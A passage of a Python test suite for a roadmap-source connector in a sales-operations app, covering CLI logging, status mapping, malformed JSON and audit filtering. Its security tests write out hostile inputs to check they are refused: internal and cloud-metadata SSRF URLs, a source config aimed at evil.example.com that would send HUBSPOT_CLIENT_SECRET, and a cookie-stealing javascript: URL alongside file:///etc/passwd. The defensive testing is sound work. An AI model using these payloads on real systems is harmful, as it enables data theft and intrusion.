        for name, url in (("acme", URL), ("broken", "https://down.example.com/f")):
            create_source(s, SourceCreate(name=name, kind="http", config={"url": url}), actor="t")
        s.commit()
    mock_api.get(URL, params={"page": "2"}).mock(
        return_value=httpx.Response(200, json=_page({"key": "scim", "name": "SCIM"}))
    )
    mock_api.get(URL).mock(
        return_value=httpx.Response(
            200, json=_page({"key": "sso", "name": "SSO"}, next_url=f"{URL}?page=2")
        )
    )
    mock_api.get("https://down.example.com/f").mock(return_value=httpx.Response(500))


def test_cli_refresh_logs_as_log_format_and_log_level_say_on_stderr_with_a_progress_bar(
    sqlite_engine, cli_env, capsys, mock_api
):
    """It printed console log lines on stdout whatever LOG_FORMAT and LOG_LEVEL said, each
    repeating its own summary, and no progress bar."""
    from app.cli import main

    _cli_sources(sqlite_engine, mock_api)
    cli_env.setenv("LOG_FORMAT", "json")
    cli_env.setenv("LOG_LEVEL", "WARNING")
    assert main(["roadmap", "refresh"]) == 1
    out, err = capsys.readouterr()
    assert out.splitlines() == [
        "acme: 2 features in 2 page(s): 2 new, 0 changed, 0 removed; 0 open deals re-evaluated, "
        "0 queued for write-back",
        "broken: FAILED, last good catalog kept: broken: GET https://down.example.com/f answered "
        "HTTP 500: ",
    ]
    logs = [json.loads(line) for line in err.splitlines() if line.startswith("{")]
    assert [(e["level"], e["event"], e["source"]) for e in logs] == [
        ("warning", "roadmap source refresh failed, last good catalog kept", "broken")
    ]
    bar = err.replace("\r", "\n")
    assert "roadmap refresh:" in bar and "acme, 2 pages" in bar and "2/2" in bar

    cli_env.setenv("LOG_FORMAT", "console")
    cli_env.setenv("LOG_LEVEL", "INFO")
    assert main(["roadmap", "refresh", "--source", "acme"]) == 0
    out, err = capsys.readouterr()
    assert out.splitlines() == [
        "acme: 2 features in 2 page(s): 0 new, 0 changed, 0 removed; 0 open deals re-evaluated, "
        "0 queued for write-back"
    ]
    assert "[info     ] roadmap source refreshed" in err and "source=acme" in err
    assert "1/1" in err.replace("\r", "\n")


# --- features without a status ------------------------------------------------------------------


def test_features_without_a_status_are_the_status_none_listed_reported_and_mappable(
    client, api_key, engine, mock_api
):
    """ "status": null was missing from /statuses, "" listed as a status whose mapping was
    refused as blank, and neither in unmapped_statuses: all are the status "(none)" now."""
    revops = api_key("revops")
    _source(client, revops)
    mock_api.get(URL).mock(
        return_value=httpx.Response(
            200,
            json=_page(
                {"key": "sso", "name": "SSO", "status": "GA"},
                {"key": "a", "name": "A", "status": None},
                {"key": "b", "name": "B", "status": ""},
                {"key": "c", "name": "C", "status": "  "},
                {"key": "d", "name": "D"},
            ),
        )
    )
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    statuses = "/api/v1/roadmap/sources/acme/statuses"
    assert client.get(statuses, headers=revops).json()["items"] == [
        {"name": "(none)", "availability": "unknown", "mapped": False, "features": 4},
        {"name": "GA", "availability": "available", "mapped": True, "features": 1},
    ]
    source = client.get("/api/v1/roadmap/sources/acme", headers=revops).json()
    assert source["unmapped_statuses"] == ["(none)"]

    r = client.patch(
        "/api/v1/roadmap/sources/acme",
        json={"status_mapping": {"GA": "available", "(none)": "uncertain"}},
        headers=revops,
    )
    assert r.status_code == 200, r.text
    assert (r.json()["features_remapped"], r.json()["source"]["unmapped_statuses"]) == (4, [])
    assert _availability(engine) == {
        "sso": "available", "a": "uncertain", "b": "uncertain", "c": "uncertain", "d": "uncertain"
    }  # fmt: skip
    assert client.get(statuses, headers=revops).json()["items"][0] == {
        "name": "(none)", "availability": "uncertain", "mapped": True, "features": 4
    }  # fmt: skip
    # the next refresh maps them as the mapping says
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    assert _availability(engine)["d"] == "uncertain"

    r = client.patch(
        "/api/v1/roadmap/sources/acme", json={"status_mapping": {"": "never"}}, headers=revops
    )
    assert r.status_code == 422
    [detail] = r.json()["error"]["details"]
    assert detail["type"] == "blank_status" and "'(none)'" in detail["msg"]


# --- an answer that is not strict JSON ----------------------------------------------------------


def test_nan_or_deep_nesting_in_an_answer_fails_the_refresh_saying_so_and_keeps_the_catalog(
    client, api_key, engine, mock_api
):
    revops = api_key("revops")
    _source(client, revops)
    nan = '{"features": [{"key": "sso", "name": "SSO", "status": "GA", "confidence": NaN}]}'
    deep = '{"features": [], "x": ' + "[" * 5000 + "]" * 5000 + "}"
    mock_api.get(URL).side_effect = [
        httpx.Response(200, json=_page({"key": "sso", "name": "SSO", "status": "GA"})),
        httpx.Response(200, content=nan.encode()),
        httpx.Response(200, content=deep.encode()),
    ]
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    for why in ("NaN is not a number JSON allows", "nested deeper than 256 levels"):
        r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()
        assert (r["ok"], r["error"]) == (False, f"acme: GET {URL} answered not valid JSON: {why}")
        assert _availability(engine) == {"sso": "available"}


# --- where a source may connect (security fix) ---------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:5432/",
        "http://[::1]:8000/",
        "http://localhost/",
        "http://10.1.2.3/",
    ],
)
def test_a_source_on_an_internal_address_is_refused_with_422(client, api_key, url):
    revops = api_key("revops")
    r = client.post(
        "/api/v1/roadmap/sources",
        json={"name": "internal", "kind": "http", "config": {"url": url}},
        headers=revops,
    )
    assert r.status_code == 422, r.text
    [detail] = r.json()["error"]["details"]
    assert detail["path"] == "config.url" and detail["type"] == "address_not_allowed"
    assert "public addresses only" in detail["msg"]
    assert client.get("/api/v1/roadmap/sources/internal", headers=revops).status_code == 404
    acme2 = {"name": "acme2", "kind": "http", "config": {"url": URL}}
    assert client.post("/api/v1/roadmap/sources", json=acme2, headers=revops).status_code == 201
    r = client.patch(  # and a PATCH is checked too
        "/api/v1/roadmap/sources/acme2", json={"config": {"url": url}}, headers=revops
    )
    assert r.status_code == 422 and r.json()["error"]["details"][0]["path"] == "config.url"


def test_a_source_stored_on_an_internal_address_fails_its_refresh_reading_nothing(
    client, api_key, engine, monkeypatch
):
    """Stored before the check: the refresh refuses it, records why, and no byte of the
    internal service's answer reaches last_error (which a viewer reads)."""
    from app.db import session_scope
    from app.models import RoadmapSource
    from tests.connectors.roadmap._server import allow_hosts, serve

    allow_hosts(monkeypatch, "")
    with serve() as server:
        server.body = b'{"error": "internal only", "db_password": "pg-pass-xyz"}'
        with session_scope(engine) as s:
            s.add(RoadmapSource(name="probe", kind="http", config={"url": server.url},
                                status_mapping={}))  # fmt: skip
        r = client.post("/api/v1/roadmap/sources/probe/refresh", headers=api_key("revops"))
        assert server.requests == 0
    assert r.status_code == 200 and r.json()["ok"] is False
    error = r.json()["error"]
    assert "address 127.0.0.1 is not public" in error and "pg-pass" not in error
    shown = client.get("/api/v1/roadmap/sources/probe", headers=api_key("viewer")).json()
    assert shown["last_error"] == error


def test_an_allowed_internal_source_is_saved_and_refreshed(client, api_key, engine, monkeypatch):
    from tests.connectors.roadmap._server import allow_hosts, serve

    allow_hosts(monkeypatch, "127.0.0.1")
    revops = api_key("revops")
    with serve() as server:
        server.body = json.dumps(_page({"key": "sso", "name": "SSO", "status": "GA"})).encode()
        _source(client, revops, config={"url": server.url})
        r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops)
    assert r.json()["ok"] is True, r.text
    assert _availability(engine) == {"sso": "available"}


# --- which environment variables a source may read (security fix) ------------------------------


def test_a_source_naming_another_environment_variable_is_refused_with_422(client, api_key):
    revops = api_key("revops")
    config = {"url": URL, "auth_env": "HUBSPOT_CLIENT_SECRET", "auth_header": "X-Steal"}
    r = client.post(
        "/api/v1/roadmap/sources",
        json={"name": "exfil", "kind": "http", "config": config},
        headers=revops,
    )
    assert r.status_code == 422, r.text
    [detail] = r.json()["error"]["details"]
    assert (detail["path"], detail["type"]) == ("config.auth_env", "env_name_prefix")
    assert "starts with ROADMAP_SOURCE_" in detail["msg"]
    assert client.get("/api/v1/roadmap/sources/exfil", headers=revops).status_code == 404


def test_a_stored_source_naming_another_variable_fails_its_refresh_without_sending_it(
    client, api_key, engine, settings, mock_api, monkeypatch
):
    """Stored before the rule: its refresh fails saying which variable to rename, the secret is
    never sent, and the schedule goes on to the other sources."""
    from app.db import session_scope
    from app.jobs.schedules import JobContext, load_schedules
    from app.models import RoadmapSource

    monkeypatch.setenv("HUBSPOT_CLIENT_SECRET", "hs-secret-123")
    revops = api_key("revops")
    _source(client, revops)
    with session_scope(engine) as s:
        s.add(
            RoadmapSource(
                name="exfil",
                kind="http",
                config={"url": "https://evil.example.com/f", "auth_env": "HUBSPOT_CLIENT_SECRET"},
                status_mapping={},
            )
        )
    evil = mock_api.get("https://evil.example.com/f").mock(
        return_value=httpx.Response(200, json=_page())
    )
    mock_api.get(URL).mock(
        return_value=httpx.Response(200, json=_page({"key": "sso", "name": "SSO", "status": "GA"}))
    )
    r = client.post("/api/v1/roadmap/sources/exfil/refresh", headers=revops)
    assert r.status_code == 200 and r.json()["ok"] is False
    assert "HUBSPOT_CLIENT_SECRET" in r.json()["error"]
    assert "ROADMAP_SOURCE_" in r.json()["error"] and "hs-secret-123" not in r.text
    state = load_schedules()["roadmap_refresh"].run(
        JobContext(engine=engine, settings=settings, connectors={})
    )
    assert state == {"last": {"acme": "ok", "exfil": "error"}}
    assert not evil.called
    shown = client.get("/api/v1/roadmap/sources/exfil", headers=api_key("viewer")).json()
    assert "HUBSPOT_CLIENT_SECRET" in shown["last_error"]
    assert any(
        w.startswith("config.auth_env: HUBSPOT_CLIENT_SECRET is not read")
        for w in shown["warnings"]
    )


# --- a feature url from a source is a web link, as the features API requires (security fix) -----

BAD_URLS = ["javascript:fetch('//evil/'+document.cookie)", "file:///etc/passwd", "data:text/html,x"]


def _features_urls(engine, source: str) -> dict[str, str | None]:
    with Session(engine) as s:
        return {f.key: f.url for f in s.exec(select(FeatureRow).where(FeatureRow.source == source))}


def test_a_feature_url_from_an_http_source_that_is_no_web_link_is_dropped(
    client, api_key, engine, mock_api
):
    """POST /api/v1/features refuses such a url; a refresh stored it, and {feature.url} goes
    into CRM messages and the dashboard. Now stored as none, the feature kept, counted."""
    revops = api_key("revops")
    _source(client, revops)
    items = [
        {"key": f"bad-{i}", "name": f"Bad {i}", "status": "GA", "url": url}
        for i, url in enumerate(BAD_URLS)
    ]
    good = {"key": "sso", "name": "SSO", "status": "GA", "url": "https://roadmap.example.com/sso"}
    mock_api.get(URL).mock(return_value=httpx.Response(200, json=_page(*items, good)))
    r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops)
    assert r.status_code == 200 and r.json()["ok"] is True, r.text
    assert r.json()["urls_dropped"] == 3 and r.json()["fetched"] == 4
    assert _features_urls(engine, "acme") == {
        "bad-0": None,
        "bad-1": None,
        "bad-2": None,
        "sso": "https://roadmap.example.com/sso",
    }
    shown = client.get("/api/v1/features/bad-0", headers=revops).json()
    assert shown["url"] is None


def test_a_feature_url_from_productboard_that_is_no_web_link_is_dropped(
    client, api_key, engine, mock_api, monkeypatch
):
    monkeypatch.setenv("ROADMAP_SOURCE_PB_TOKEN", "tok")
    revops = api_key("revops")
    r = client.post(
        "/api/v1/roadmap/sources",
        json={
            "name": "pb",
            "kind": "productboard",
            "config": {"token_env": "ROADMAP_SOURCE_PB_TOKEN"},
        },
        headers=revops,
    )
    assert r.status_code == 201, r.text
    entity = {
        "id": "2f0a1c3e-6a7b-4c1d-9e2f-0123456789ab",
        "type": "feature",
        "fields": {"name": "Audit"},
        "links": {"html": BAD_URLS[0]},
    }
    mock_api.get("https://api.productboard.com/v2/entities").mock(
        return_value=httpx.Response(200, json={"data": [entity], "links": {"next": None}})
    )
    r = client.post("/api/v1/roadmap/sources/pb/refresh", headers=revops)
    assert r.json()["ok"] is True and r.json()["urls_dropped"] == 1, r.text
    assert _features_urls(engine, "pb") == {"pb-2f0a1c3e-6a7b-4c1d-9e2f-0123456789ab": None}


def test_an_unknown_key_in_a_source_body_gets_the_key_meant_or_the_keys_allowed(client, api_key):
    revops = api_key("revops")
    _source(client, revops)
    r = client.patch(
        "/api/v1/roadmap/sources/acme",
        json={"status_maping": {"GA": "available"}, "colour": "red"},
        headers=revops,
    )
    assert r.status_code == 422, r.text
    error = r.json()["error"]
    assert error["code"] == "invalid_request"
    assert [(d["path"], d["msg"]) for d in error["details"]] == [
        ("status_maping", "Extra inputs are not permitted; did you mean 'status_mapping'?"),
        (
            "colour",
            "Extra inputs are not permitted; allowed here: enabled, config, status_mapping",
        ),
    ]
    r = client.post(
        "/api/v1/roadmap/sources",
        json={"name": "b", "kind": "http", "config": {"url": URL}, "enabld": False},
        headers=revops,
    )
    assert r.json()["error"]["details"][0]["msg"] == (
        "Extra inputs are not permitted; did you mean 'enabled'?"
    )


def _feature_history(client, headers, key: str) -> list[tuple[str, str, str]]:
    r = client.get(
        "/api/v1/audit", params={"entity_type": "feature", "entity_id": key}, headers=headers
    )
    assert r.status_code == 200, r.text
    assert r.json()["total"] == len(r.json()["items"])
    return [(e["action"], e["entity_type"], e["entity_id"]) for e in r.json()["items"]]


def test_audit_filter_by_feature_finds_the_source_refresh_edit_and_delete_that_changed_it(
    client, api_key, engine, mock_api
):
    """ "Who changed SSO's availability and when": the source's entries that list the feature
    are found under entity_type=feature too, newest first; not under another feature."""
    revops, engineering = api_key("revops"), api_key("engineering")
    _source(client, revops)
    mock_api.get(URL).side_effect = [
        httpx.Response(
            200,
            json=_page(
                {"key": "sso", "name": "SSO", "status": "Planned"},
                {"key": "dark", "name": "Dark", "status": "GA"},
            ),
        ),
        httpx.Response(
            200,
            json=_page(
                {"key": "sso", "name": "SSO", "status": "GA"},  # coming_soon -> available
                {"key": "dark", "name": "Dark", "status": "GA"},
            ),
        ),
    ]
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    refresh = [("roadmap.refresh", "roadmap_source", "acme")]
    assert _feature_history(client, engineering, "sso") == refresh * 2
    assert _feature_history(client, engineering, "dark") == refresh  # unchanged the 2nd time

    r = client.patch(
        "/api/v1/roadmap/sources/acme",
        json={"status_mapping": {"ga": "beta", "planned": "coming_soon"}},
        headers=revops,
    )
    assert r.status_code == 200, r.text
    edit = [("roadmap_source.update", "roadmap_source", "acme")]
    assert _feature_history(client, engineering, "sso") == edit + refresh * 2
    assert client.delete("/api/v1/roadmap/sources/acme", headers=revops).status_code == 200
    delete = [("roadmap_source.delete", "roadmap_source", "acme")]
    history = _feature_history(client, engineering, "sso")
    assert history == delete + edit + refresh * 2
    assert _feature_history(client, engineering, "other") == []

    # the entry found is the source's, with the feature's before and after in it
    r = client.get(
        "/api/v1/audit",
        params={"entity_type": "feature", "entity_id": "sso", "action": "roadmap.refresh"},
        headers=engineering,
    ).json()
    assert r["items"][0]["before"]["features"]["sso"]["availability"] == "coming_soon"
    assert r["items"][0]["after"]["features"]["sso"]["availability"] == "available"
    # a feature's own entries still come with them; the source's filter is unchanged
    client.post("/api/v1/features", json={"key": "sso", "name": "SSO"}, headers=revops)
    history = _feature_history(client, engineering, "sso")
    assert (
        history[0] == ("feature.create", "feature", "sso")
        and history[1:] == delete + edit + refresh * 2
    )
    r = client.get(
        "/api/v1/audit",
        params={"entity_type": "roadmap_source", "entity_id": "acme"},
        headers=engineering,
    ).json()
    assert [e["action"] for e in r["items"]][:2] == [
        "roadmap_source.delete",
        "roadmap_source.update",
    ]


def test_audit_filter_by_feature_finds_only_the_listed_features_of_a_capped_entry(
    client, api_key, mock_api, monkeypatch
):
    from app.services import roadmap_refresh

    monkeypatch.setattr(roadmap_refresh, "AUDIT_FEATURE_LIMIT", 2)
    revops = api_key("revops")
    _source(client, revops)
    mock_api.get(URL).mock(
        return_value=httpx.Response(
            200, json=_page(*({"key": f"f{n}", "name": f"F{n}", "status": "GA"} for n in range(4)))
        )
    )
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    assert len(_feature_history(client, revops, "f1")) == 1
    assert _feature_history(client, revops, "f3") == []  # past the cap: not listed, not found


def test_a_refresh_whose_source_config_is_edited_while_it_reads_stores_nothing(engine, mock_api):
    """The schedule reads the old URL (or JQL) while RevOps saves a new one: what it read
    belonged to the old config, and its ETag to the old URL (sent to the new one next time)."""
    from app.db import session_scope
    from app.models import RoadmapSource
    from app.services.roadmap_refresh import refresh_source

    config = {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN"}
    with session_scope(engine) as s:
        s.add(RoadmapSource(name="acme", kind="http", config=config, status_mapping={}))
    new_url = "https://roadmap.example.com/v2/features"

    def edited_meanwhile(request):
        with session_scope(engine) as s:
            s.get(RoadmapSource, "acme").config = {**config, "url": new_url}
        feature = {"key": "old-1", "name": "Read with the old URL", "status": "GA"}
        return httpx.Response(200, json=_page(feature), headers={"ETag": '"old"'})

    mock_api.get(URL).mock(side_effect=edited_meanwhile)
    result = refresh_source(engine, "acme")
    assert result.ok is False
    assert "config was edited while it was being read" in result.error
    with Session(engine) as s:
        row = s.get(RoadmapSource, "acme")
        assert (row.etag, row.last_success_at, row.last_error) == (None, None, result.error)
        assert s.exec(select(FeatureRow).where(FeatureRow.source == "acme")).all() == []
    mock_api.get(new_url).mock(
        return_value=httpx.Response(
            200, json=_page({"key": "new-1", "name": "New", "status": "GA"})
        )
    )
    assert refresh_source(engine, "acme").ok
    with Session(engine) as s:
        assert s.exec(select(FeatureRow.key).where(FeatureRow.source == "acme")).all() == ["new-1"]
